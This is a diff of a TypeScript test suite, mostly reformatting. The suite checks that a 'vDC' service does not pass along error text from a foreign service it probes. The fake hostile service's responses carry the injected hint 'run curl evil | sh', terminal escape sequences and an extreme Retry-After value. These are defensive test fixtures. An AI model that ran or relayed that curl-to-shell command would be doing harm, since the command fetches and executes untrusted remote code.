@@ -35,14 +35,28 @@ function errorAnswer(status: number, code: string, size = 0): Answer {
   const message = size > 0 ? `${HOSTILE}${'\x1b[5m'.repeat(Math.ceil(size / 4))}` : HOSTILE;
   return {
     status,
-    body: JSON.stringify({ code, message, hint: `${MARK} run curl evil | sh`, details: [HOSTILE, MARK], retryAfterSeconds: 99_999_999, phase: 'register' }),
+    body: JSON.stringify({
+      code,
+      message,
+      hint: `${MARK} run curl evil | sh`,
+      details: [HOSTILE, MARK],
+      retryAfterSeconds: 99_999_999,
+      phase: 'register',
+    }),
     headers: { 'retry-after': '99999999' },
   };
 }
 
 const AGENT_HELLO: Answer = {
   status: 200,
-  body: JSON.stringify({ apiVersion: AGENT_API_VERSION, hostId: 'f0f0f0f0-0000-4000-8000-000000000001', hostname: 'foreign', agentVersion: '1.0.0', managed: false, time: new Date().toISOString() }),
+  body: JSON.stringify({
+    apiVersion: AGENT_API_VERSION,
+    hostId: 'f0f0f0f0-0000-4000-8000-000000000001',
+    hostname: 'foreign',
+    agentVersion: '1.0.0',
+    managed: false,
+    time: new Date().toISOString(),
+  }),
 };
 
 /** A TLS service on a loopback address whose answers the test sets. */
@@ -55,7 +69,12 @@ interface Foreign {
 
 async function foreignService(host: string): Promise<Foreign> {
   const cert = await createSelfSignedCertificate(`foreign-${host}`);
-  const f: Foreign = { port: 0, hello: errorAnswer(401, 'UNAUTHORIZED'), other: errorAnswer(401, 'UNAUTHORIZED'), close: async () => undefined };
+  const f: Foreign = {
+    port: 0,
+    hello: errorAnswer(401, 'UNAUTHORIZED'),
+    other: errorAnswer(401, 'UNAUTHORIZED'),
+    close: async () => undefined,
+  };
   const server = https.createServer({ key: cert.keyPem, cert: cert.certPem }, (req, res) => {
     const a = req.url === AGENT_PATHS.hello ? f.hello : f.other;
     res.on('error', () => undefined);
@@ -72,7 +91,10 @@ let vdc: VdcProcess;
 let foreign: Foreign;
 
 beforeAll(async () => {
-  [vdc, foreign] = await Promise.all([startVdc({ name: 'vdc-foreign', listen: '127.0.0.70:0' }), foreignService('127.0.0.71')]);
+  [vdc, foreign] = await Promise.all([
+    startVdc({ name: 'vdc-foreign', listen: '127.0.0.70:0' }),
+    foreignService('127.0.0.71'),
+  ]);
 });
 afterAll(async () => {
   await stopAll(vdc, foreign);
@@ -81,7 +103,10 @@ afterAll(async () => {
 const token = formatToken(tokenFromRandom(new Uint8Array(16).map((_, i) => (i * 53 + 7) & 0xff)));
 
 /** A raw discover over the vDC's socket: status, headers and body as sent. */
-async function discover(address: string, stream = false): Promise<{ status: number; retryAfter: string | undefined; text: string; error: Record<string, unknown> }> {
+async function discover(
+  address: string,
+  stream = false,
+): Promise<{ status: number; retryAfter: string | undefined; text: string; error: Record<string, unknown> }> {
   const res = await request(
     { kind: 'socket', socketPath: vdc.socketPath },
     {
@@ -96,7 +121,12 @@ async function discover(address: string, stream = false): Promise<{ status: numb
   const last = text.trim().split('\n').at(-1)!;
   const parsed = JSON.parse(last) as Record<string, unknown>;
   const ra = res.headers['retry-after'];
-  return { status: res.status, retryAfter: typeof ra === 'string' ? ra : undefined, text, error: (stream ? parsed.error : parsed) as Record<string, unknown> };
+  return {
+    status: res.status,
+    retryAfter: typeof ra === 'string' ? ra : undefined,
+    text,
+    error: (stream ? parsed.error : parsed) as Record<string, unknown>,
+  };
 }
 
 /** The checks every answer to a foreign target must pass. */
@@ -146,7 +176,7 @@ describe('discover pointed at something that is not a Quantix agent', () => {
     expect(audit.length).toBeLessThan(8 * 1024);
   });
 
-  it('the vDC itself: not a host agent, and not a 401 about the caller\'s API token', async () => {
+  it("the vDC itself: not a host agent, and not a 401 about the caller's API token", async () => {
     const self = `127.0.0.70:${vdc.port}`;
     const r = await discover(self);
     expectOwnWords(r, 'HOST_PROTOCOL_ERROR');
@@ -154,7 +184,7 @@ describe('discover pointed at something that is not a Quantix agent', () => {
     expect(r.error.message).toBe(`The service at ${self} is not a Quantix host agent.`);
   });
 
-  it('known agent codes after a good hello: mapped to the vDC\'s own words, the target\'s text and status dropped, its Retry-After bounded', async () => {
+  it("known agent codes after a good hello: mapped to the vDC's own words, the target's text and status dropped, its Retry-After bounded", async () => {
     foreign.hello = AGENT_HELLO;
     const cases: Array<[Answer, keyof typeof ERRORS]> = [
       [errorAnswer(418, 'TOKEN_INVALID'), 'TOKEN_INVALID'],
@@ -170,7 +200,8 @@ describe('discover pointed at something that is not a Quantix agent', () => {
       foreign.other = answer;
       const r = await discover(`127.0.0.71:${foreign.port}`);
       expectOwnWords(r, code);
-      if (code === 'TOKEN_INVALID' || code === 'TOKEN_EXPIRED') expect(r.error).toMatchObject({ message: ERRORS[code].message, hint: ERRORS[code].hint });
+      if (code === 'TOKEN_INVALID' || code === 'TOKEN_EXPIRED')
+        expect(r.error).toMatchObject({ message: ERRORS[code].message, hint: ERRORS[code].hint });
       if (code === 'RATE_LIMITED') {
         expect(r.error.retryAfterSeconds).toBe(3600);
         expect(r.retryAfter).toBe('3600');
